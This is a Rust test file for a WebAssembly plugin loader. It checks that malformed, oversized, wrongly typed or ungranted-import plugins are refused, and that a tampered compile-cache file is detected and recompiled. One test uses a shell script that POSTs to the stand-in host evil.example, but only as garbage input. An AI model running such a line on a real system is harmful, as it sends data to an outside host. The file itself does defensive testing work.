//! Loading: what is refused and why, what a valid plugin says about itself,
//! and the compile cache.

use postern::config::PluginsConfig;
use postern::plugin::{PluginError, PluginRuntime};

use super::support::*;

async fn refusal(bytes: Vec<u8>) -> PluginError {
    let rt = PluginRuntime::new(&test_limits(), None).unwrap();
    rt.load(bytes).await.expect_err("must be refused")
}

#[tokio::test]
async fn garbage_bytes_are_not_wasm() {
    let e = refusal(b"#!/bin/sh\ncurl -X POST https://evil.example\n".to_vec()).await;
    assert_eq!(e, PluginError::NotWasm);
    assert!(e.to_string().contains("not a WebAssembly file"));
}

#[tokio::test]
async fn a_core_module_is_not_a_component() {
    // The smallest valid core module: magic + version 1.
    let e = refusal(b"\0asm\x01\0\0\0".to_vec()).await;
    assert_eq!(e, PluginError::CoreModule);
    assert!(e.to_string().contains("build for wasm32-wasip2"), "{e}");
}

#[tokio::test]
async fn a_damaged_component_is_invalid_not_a_panic() {
    let mut bytes = wasm("noop");
    bytes.truncate(bytes.len() / 2);
    let e = refusal(bytes).await;
    assert!(matches!(e, PluginError::Invalid(_)), "{e:?}");
}

#[tokio::test]
async fn an_ungranted_import_is_refused_naming_it() {
    let e = refusal(wasm("bad_import")).await;
    assert!(
        matches!(&e, PluginError::UngrantedImport(i) if i.starts_with("evil:host/spy")),
        "{e:?}"
    );
    assert!(
        e.to_string().contains("which postern does not grant"),
        "{e}"
    );
}

#[tokio::test]
async fn a_component_of_another_world_is_refused() {
    let e = refusal(wasm("wrong_world")).await;
    let PluginError::WrongWorld(why) = &e else {
        panic!("{e:?}");
    };
    assert!(why.contains("exports greet"), "{why}");
    assert!(
        why.contains("missing describe, validate-recipient, deliver"),
        "{why}"
    );
}

#[tokio::test]
async fn a_plugin_over_the_size_limit_is_refused() {
    let cfg = PluginsConfig {
        max_upload_bytes: 10_000,
        ..test_limits()
    };
    let rt = PluginRuntime::new(&cfg, None).unwrap();
    let e = rt.load(wasm("telegram")).await.unwrap_err();
    assert!(
        matches!(e, PluginError::TooLarge { limit: 10_000, .. }),
        "{e:?}"
    );
}

#[tokio::test]
async fn describe_is_served_camel_case_and_both_wasi_versions_link() {
    let rt = runtime(&test_limits());
    // telegram imports WASI 0.2.12 (wstd); noop imports 0.2.6 (plain std).
    let telegram = load(&rt, "telegram").await;
    let noop = load(&rt, "noop").await;
    assert!(
        telegram
            .imports
            .iter()
            .any(|i| i == "wasi:http/outgoing-handler@0.2.12"),
        "{:?}",
        telegram.imports
    );
    assert!(
        noop.imports.iter().any(|i| i.ends_with("@0.2.6")),
        "{:?}",
        noop.imports
    );

    let v = serde_json::to_value(&telegram.info).unwrap();
    assert_eq!(v["name"], "telegram");
    let keys = v["configKeys"].as_array().unwrap();
    let token = keys.iter().find(|k| k["name"] == "bot_token").unwrap();
    assert_eq!(token["required"], true);
    assert_eq!(token["secret"], true);
    assert_eq!(telegram.sha256.len(), 64);
    assert_eq!(telegram.size, wasm("telegram").len());
}

#[tokio::test]
async fn the_same_bytes_load_once() {
    let rt = runtime(&test_limits());
    let a = load(&rt, "noop").await;
    let b = load(&rt, "noop").await;
    assert!(std::sync::Arc::ptr_eq(&a, &b));
}

#[tokio::test]
async fn compiled_plugins_are_cached_and_a_tampered_cache_file_is_not_used() {
    let dir = tempfile::tempdir().unwrap();
    let bytes = wasm("noop");
    let first = PluginRuntime::new(&test_limits(), Some(dir.path())).unwrap();
    let p = first.load(bytes.clone()).await.unwrap();
    let cache = dir.path().join("plugin-cache");
    let entries: Vec<String> = std::fs::read_dir(&cache)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.ends_with(".cwasm"))
        .collect();
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert!(
        entries[0].starts_with(&p.sha256),
        "named by content hash only: {entries:?}"
    );

    // A restart takes the compiled artifact from the cache, much faster.
    let t = std::time::Instant::now();
    let again = PluginRuntime::new(&test_limits(), Some(dir.path())).unwrap();
    again.load(bytes.clone()).await.unwrap();
    let cached = t.elapsed();

    // Someone overwrites the artifact: it fails verification, is never
    // deserialized, and the plugin is recompiled and still works.
    let file = cache.join(&entries[0]);
    let mut forged = std::fs::read(&file).unwrap();
    let n = forged.len();
    forged[n - 100] ^= 0xff;
    std::fs::write(&file, &forged).unwrap();
    let third = PluginRuntime::new(&test_limits(), Some(dir.path())).unwrap();
    let p3 = third.load(bytes).await.unwrap();
    assert_eq!(p3.info.name, "noop");
    assert_ne!(
        std::fs::read(&file).unwrap(),
        forged,
        "the forged file was replaced"
    );
    assert!(cached < std::time::Duration::from_secs(2), "{cached:?}");
}
